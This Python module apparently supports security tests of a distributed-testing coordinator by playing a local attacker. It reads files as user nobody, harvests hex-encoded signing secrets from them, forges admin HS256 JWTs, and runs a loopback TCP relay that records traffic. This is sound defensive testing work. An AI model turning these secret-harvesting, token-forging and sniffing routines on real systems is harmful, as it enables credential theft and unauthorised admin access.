"""What a local attacker does with the coordinator's state files: read what the file modes let
another user read, pull every candidate token-signing secret out of the bytes, and forge an admin
JWT with each. Reading happens in a forked child that has dropped to ``nobody`` (so it needs
root to start); forging is pure computation and happens here."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import re
import socket
import threading
import time
from pathlib import Path

NOBODY = 65534
_HEX_RUN = re.compile(rb"[0-9a-fA-F]{64,}")


def can_impersonate() -> bool:
    return hasattr(os, "fork") and os.geteuid() == 0


def read_as_nobody(top: Path) -> dict[str, bytes]:
    """Every file under ``top`` that user ``nobody`` can read, as that user would read it."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:  # the attacker: no privileges from here on
        try:
            os.close(r)
            os.setgroups([])
            os.setgid(NOBODY)
            os.setuid(NOBODY)
            found: dict[str, str] = {}
            for dirpath, _dirs, names in os.walk(top):  # unreadable directories are skipped silently
                for name in names:
                    path = os.path.join(dirpath, name)
                    try:
                        with open(path, "rb") as f:
                            found[path] = base64.b64encode(f.read()).decode()
                    except OSError:
                        pass
            with os.fdopen(w, "w") as out:
                json.dump(found, out)
        finally:
            os._exit(0)
    os.close(w)
    with os.fdopen(r) as inp:
        data = inp.read()
    os.waitpid(pid, 0)
    return {k: base64.b64decode(v) for k, v in json.loads(data).items()}


def read_all(top: Path) -> dict[str, bytes]:
    """Every file under ``top``, read with this process's rights (a backup, a copy of the database)."""
    return {str(p): p.read_bytes() for p in top.rglob("*") if p.is_file()}


def secret_candidates(blobs: dict[str, bytes]) -> set[bytes]:
    """Every run of 64+ hex digits in the files: how the signing secret was stored in plain text."""
    out: set[bytes] = set()
    for data in blobs.values():
        for run in _HEX_RUN.findall(data):
            for start in range(0, len(run) - 63, 2):
                out.add(bytes.fromhex(run[start:start + 64].decode()))
    return out


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def forge_admin_token(secret: bytes, key_id: str) -> str:
    """An HS256 JWT claiming to come from admin key ``key_id`` (key ids are not secret)."""
    now = int(time.time())
    head = _b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    body = _b64(json.dumps({"iss": "distributed_testing", "sub": key_id, "role": "admin", "iat": now,
                            "nbf": now, "exp": now + 600, "jti": "forged"}).encode())
    sig = _b64(hmac.new(secret, f"{head}.{body}".encode(), hashlib.sha256).digest())
    return f"{head}.{body}.{sig}"


class Sniffer:
    """A TCP relay on 127.0.0.1 that forwards to ``target_port`` and keeps every byte it carried,
    both ways: what an eavesdropper on the network path sees. One thread per direction."""

    def __init__(self, target_port: int) -> None:
        self.target_port = target_port
        self.captured = bytearray()
        self._lock = threading.Lock()
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._server.getsockname()[1])
        self._threads: list[threading.Thread] = []
        self._closed = False
        accept = threading.Thread(target=self._accept, daemon=True)
        accept.start()

    def _accept(self) -> None:
        while not self._closed:
            try:
                client, _ = self._server.accept()
            except OSError:
                return
            upstream = socket.create_connection(("127.0.0.1", self.target_port))
            for src, dst in ((client, upstream), (upstream, client)):
                t = threading.Thread(target=self._pump, args=(src, dst), daemon=True)
                t.start()
                self._threads.append(t)

    def _pump(self, src: socket.socket, dst: socket.socket) -> None:
        try:
            while data := src.recv(65536):
                with self._lock:
                    self.captured += data
                dst.sendall(data)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def close(self) -> None:
        self._closed = True
        self._server.close()
